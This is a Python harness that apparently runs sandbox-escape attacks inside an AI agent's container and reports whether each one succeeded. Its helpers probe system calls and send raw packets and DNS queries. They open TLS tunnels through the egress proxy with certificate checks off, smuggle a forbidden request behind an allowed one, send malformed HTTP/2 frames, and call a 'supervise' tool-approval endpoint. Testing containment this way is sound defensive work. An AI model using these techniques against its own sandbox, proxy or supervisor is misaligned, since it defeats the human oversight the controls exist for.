"""Runs attacks inside the agent's container, each in a process of its own.

Reads one JSON object from standard input: `facts`, whose values become global names, `cases`, a list of [id, nonce, program],
and `at_once`. Prints one JSON line for each case: [id, claimed, finished, printed].

An attack reports what it got with `got`. The helpers below swallow the errors that a refused attempt causes; any other
exception means that the attack itself is broken, and it then counts as not finished.
"""

import base64
import binascii
import contextlib
import ctypes
import errno
import fcntl
import functools
import json
import mmap
import os
import pathlib
import re
import resource
import select
import shutil
import signal
import socket
import ssl
import stat
import struct
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse

PATIENCE = 1.5
LIMIT = 75
# Of what an attack printed, for the search for secrets.
KEPT = 4 << 20

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def quietly(attempt):
    """Decorates a function that returns None when the system refuses."""

    @functools.wraps(attempt)
    def attempted(*arguments, **options):
        try:
            return attempt(*arguments, **options)
        except (OSError, EOFError) as error:
            print(f"{attempt.__name__}: {error}")
            return None

    return attempted


def got(what=""):
    """Claims a success."""
    print(f"GOT-{N} {what}", flush=True)


def readable(data):
    return data.decode("latin-1") if isinstance(data, bytes) else data


def data_of(value):
    return value.encode("latin-1") if isinstance(value, str) else value


def opened(family, kind, device, source, options):
    made = socket.socket(family, kind)
    made.settimeout(PATIENCE)
    if device:
        made.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode())
    for option in options:
        made.setsockopt(*option)
    if source:
        made.bind((source, 0))
    return made


@quietly
def tcp(address, port, data=None, device=None, source=None, family=socket.AF_INET, options=()):
    """Connects and sends the nonce. Returns the beginning of the answer."""
    with opened(family, socket.SOCK_STREAM, device, source, options) as made:
        made.connect((address, port))
        made.sendall(data_of(data or N))
        print("connected", address, port)
        answer = made.recv(65536)
        print(readable(answer))
        return answer


@quietly
def udp(address, port, data=None, device=None, source=None, family=socket.AF_INET, options=()):
    with opened(family, socket.SOCK_DGRAM, device, source, options) as made:
        made.sendto(data_of(data or N), (address, port))
        print("sent", address, port)
        made.settimeout(0.5)
        return made.recv(65536)


@quietly
def packet(family, kind, protocol, data, address, options=()):
    """Sends on any kind of socket."""
    with socket.socket(family, kind, protocol) as made:
        for option in options:
            made.setsockopt(*option)
        made.settimeout(PATIENCE)
        made.sendto(data_of(data), address)
        print("sent", address)
        return True


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def echo_request(data):
    head = struct.pack("!BBHHH", 8, 0, 0, 7, 1)
    body = data_of(data)
    return struct.pack("!BBHHH", 8, 0, checksum(head + body), 7, 1) + body


def ip_packet(protocol, source, target, data):
    body = data_of(data)
    head = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 7, 0, 64, protocol, 0, socket.inet_aton(source), socket.inet_aton(target)
    )
    return head + body


def udp_header(source, target, data):
    body = data_of(data)
    return struct.pack("!HHHH", source, target, 8 + len(body), 0) + body


def sysfile(path):
    with open(path) as file:
        return file.read()


@quietly
def write(path, value):
    with open(path, "wb", buffering=0) as file:
        file.write(data_of(value))
    print("wrote", path)
    return True


@quietly
def read(path, size=1 << 20):
    with open(path, "rb") as file:
        data = file.read(size)
    print(readable(data))
    return data


def sh(script, **more):
    """Runs a shell script with the facts in its environment, and prints all its output."""
    environment = {name: str(value) for name, value in FACTS.items() if not isinstance(value, (list, dict))}
    environment = os.environ | environment | {"N": N, "D": tempfile.mkdtemp()} | more
    done = subprocess.run(
        ["timeout", "-k", "1", "30", "sh", "-c", script], env=environment, stdin=subprocess.DEVNULL, capture_output=True, check=False
    )
    output = (done.stdout + done.stderr).decode("utf-8", "replace")
    print(output[:KEPT], "status", done.returncode)
    return done.returncode, output


def syscall(number, *arguments):
    """Returns the result of a system call, or the negated error number."""
    ctypes.set_errno(0)
    values = [ctypes.c_char_p(value) if isinstance(value, bytes) else value for value in arguments]
    values = [ctypes.c_long(value) if isinstance(value, int) else value for value in values]
    result = libc.syscall(ctypes.c_long(number), *values)
    result = -ctypes.get_errno() if result == -1 else result
    print("system call", number, result, errno.errorcode.get(-result, ""))
    return result


def allowed(number, *arguments):
    """Claims a success if the system call is not refused. A wrong argument shows that the call as such was let through."""
    result = syscall(number, *arguments)
    if result >= 0 or -result in (errno.EFAULT, errno.EINVAL, errno.EBADF, errno.ENOENT, errno.ESRCH, errno.ENOEXEC):
        got(f"system call {number}: {result}")
    return result


def succeeds(number, *arguments):
    result = syscall(number, *arguments)
    if result >= 0:
        got(f"system call {number}: {result}")
    return result


# --- The proxy ---


def proxy():
    return urllib.parse.urlsplit(os.environ["http_proxy"] if "http_proxy" in os.environ else os.environ["HTTP_PROXY"])


def answer_of(connection, limit=1 << 20):
    data = b""
    try:
        while len(data) < limit and (piece := connection.recv(65536)):
            data += piece
            if b"\r\n\r\n" in data and len(data) > 60000:
                break
    except OSError:
        pass
    print(readable(data))
    return data


def to_proxy(address=None):
    known = proxy()
    made = socket.create_connection(address or (known.hostname, known.port), 5)
    made.settimeout(3)
    return made


@quietly
def bare(request, address=None):
    """Sends bytes to the proxy as they are, and prints the answer."""
    with to_proxy(address) as made:
        made.sendall(data_of(request))
        return answer_of(made)


def get(url, host=None, more="", method="GET", version="HTTP/1.1", address=None):
    """A plain request through the proxy, in absolute form."""
    host = host if host is not None else urllib.parse.urlsplit(url).netloc
    return bare(f"{method} {url} {version}\r\nHost: {host}\r\n{more}Connection: close\r\n\r\n", address)


def connect(target, more="", host=None, send=None, address=None):
    """A CONNECT. Returns the answer, or what came back through the tunnel if something was sent there."""

    @quietly
    def attempt():
        with to_proxy(address) as made:
            made.sendall(data_of(f"CONNECT {target} HTTP/1.1\r\nHost: {host or target}\r\n{more}\r\n"))
            head = head_of(made)
            print(head)
            if send is None or " 200" not in head.split("\r\n")[0]:
                return head.encode()
            made.sendall(data_of(send))
            return answer_of(made)

    return attempt()


def head_of(connection):
    data = b""
    while b"\r\n\r\n" not in data and len(data) < 65536 and (piece := connection.recv(65536)):
        data += piece
    return data.decode("latin-1")


@quietly
def tunnel(target, request, sni=None, alpn=None, address=None, connect_host=None):
    """Opens a tunnel, encrypts it without looking at the certificate, sends bytes and returns the answer."""
    with to_proxy(address) as made:
        made.sendall(data_of(f"CONNECT {target} HTTP/1.1\r\nHost: {connect_host or target}\r\n\r\n"))
        head = head_of(made)
        if " 200" not in head.split("\r\n")[0]:
            print(head)
            return head.encode()
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        if alpn:
            context.set_alpn_protocols(alpn)
        name = sni if sni is not None else target.rsplit(":", 1)[0]
        with context.wrap_socket(made, server_hostname=name or None) as encrypted:
            encrypted.settimeout(3)
            encrypted.sendall(data_of(request))
            return answer_of(encrypted)


def routed(line, more="", host=None, body=""):
    """A request to the routed host, inside its tunnel. `line` is the method and the target."""
    return tunnel(f"{API}:443", f"{line} HTTP/1.1\r\nHost: {host or API}\r\n{more}Connection: close\r\n\r\n{body}")


def smuggle(head, body, method="POST", in_the_open=True):
    """Hides a forbidden request behind an allowed one: in the open, in a tunnel, and in a routed host's tunnel."""
    for host, hidden, forbidden, path in ((OUTSIDE, "", FORBIDDEN, "/"), (API, "/v1/x", API, "/other")):
        first = f"{method} {{}}/echo?first HTTP/1.1\r\nHost: {host}\r\n{head}\r\n{body}"
        second = f"DELETE {path}{N} HTTP/1.1\r\nHost: {forbidden}\r\nX-Hidden: {hidden}\r\nContent-Length: 0\r\n\r\n"
        absolute = second.replace(f"DELETE {path}", f"DELETE http://{forbidden}{path}", 1)
        ways = [(tunnel, f"{host}:443", first.format("") + second), (bare, first.format(f"http://{host}") + absolute)]
        # A body that is not over may pass to an allowed host. In the open, the bytes of one cannot be told from a request.
        for way in ways if in_the_open else ways[:1]:
            threading.Thread(target=way[0], args=way[1:]).start()


def h2_request(authority, path):
    """The preface of HTTP/2, and a request in literal headers without an index."""

    def literal(name, value):
        return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()

    def frame(kind, flags, stream, payload):
        return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload

    headers = b"".join(literal(*pair) for pair in (
        (":method", "GET"), (":scheme", "https"), (":authority", authority), (":path", path), ("host", OUTSIDE), (":path", path)))
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(1, 5, 1, headers)


def got_if_ok(answer):
    """Claims a success if an HTTP answer is not a refusal."""
    if answer and re.match(rb"HTTP/[\d.]+ [23]\d\d", answer):
        got(readable(answer[:200]))


# --- Names ---


def query(name, kind=1):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".") if label)
    return struct.pack("!HHHHHH", 0x7B7B, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)


@quietly
def dns(server, name=None, kind=1, over_tcp=False, port=53, device=None, source_port=None):
    question = query(name or f"{N}.example.com", kind)
    options = [(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)]
    if over_tcp:
        return tcp(server, port, struct.pack("!H", len(question)) + question, device, options=options)
    return udp(server, port, question, device)


@quietly
def lookup(name, family=0):
    """Asks the system's resolver."""
    found = socket.getaddrinfo(name, 443, family)
    print(found)
    return found


# --- Supervise ---


def mcp(method, parameters, more="", path="/mcp", verb="POST"):
    body = json.dumps({"jsonrpc": "2.0", "id": 1, "method": method, "params": parameters})
    return supervise(verb, path, body, more)


@quietly
def supervise(verb, path, body="", more=""):
    body = data_of(body) if isinstance(body, bytes) else body.encode()
    head = (
        f"{verb} {path} HTTP/1.1\r\nHost: supervise:9100\r\nContent-Type: application/json\r\n"
        f"Accept: application/json, text/event-stream\r\nMCP-Protocol-Version: 2025-06-18\r\n{more}"
        f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    )
    with socket.create_connection(("supervise", 9100), 5) as made:
        made.settimeout(8)
        made.sendall(head.encode() + body)
        return answer_of(made)


def propose(tool, **arguments):
    return mcp("tools/call", {"name": tool, "arguments": arguments})


# --- The pass ---


def main():
    given = json.load(sys.stdin)
    globals()["FACTS"] = given["facts"]
    globals().update(given["facts"])
    waiting, running = list(given["cases"]), {}
    while waiting or running:
        while waiting and len(running) < given["at_once"]:
            case = waiting.pop(0)
            running[start(case)] = case
        for pid, case in list(running.items()):
            ended, status = os.waitpid(pid, os.WNOHANG)
            if ended:
                del running[pid]
                end_group(pid)
                # In gVisor, files take the container's memory.
                shutil.rmtree(printed_by(case) + ".d", ignore_errors=True)
                print(json.dumps(result(case, status)), flush=True)
        time.sleep(0.01)


def end_group(pid):
    """Ends what an attack left running."""
    with contextlib.suppress(OSError):
        os.killpg(pid, signal.SIGKILL)


def printed_by(case):
    return f"/tmp/attack-{case[0]}-{os.getuid()}"


def start(case):
    """Starts an attack with its output in a file and a time limit, in a process group of its own."""
    _, nonce, program = case
    pid = os.fork()
    if pid:
        return pid
    try:
        os.setpgid(0, 0)
        output = os.open(printed_by(case), os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
        os.dup2(output, 1)
        os.dup2(output, 2)
        signal.alarm(LIMIT)
        globals()["N"] = nonce
        tempfile.tempdir = printed_by(case) + ".d"
        os.mkdir(tempfile.tempdir)
        exec(compile(program, case[0], "exec"), globals())
        for thread in threading.enumerate():
            if thread is not threading.current_thread() and not thread.daemon:
                thread.join()
        sys.stdout.flush()
        os._exit(0)
    except BaseException:
        import traceback

        traceback.print_exc()
        sys.stderr.flush()
        sys.stdout.flush()
        os._exit(1)


def result(case, status):
    number, nonce, _ = case
    with open(printed_by(case), "rb") as file:
        printed = file.read(KEPT).decode("utf-8", "replace")
    os.unlink(printed_by(case))
    return [number, f"GOT-{nonce}" in printed, status == 0, printed]


main()
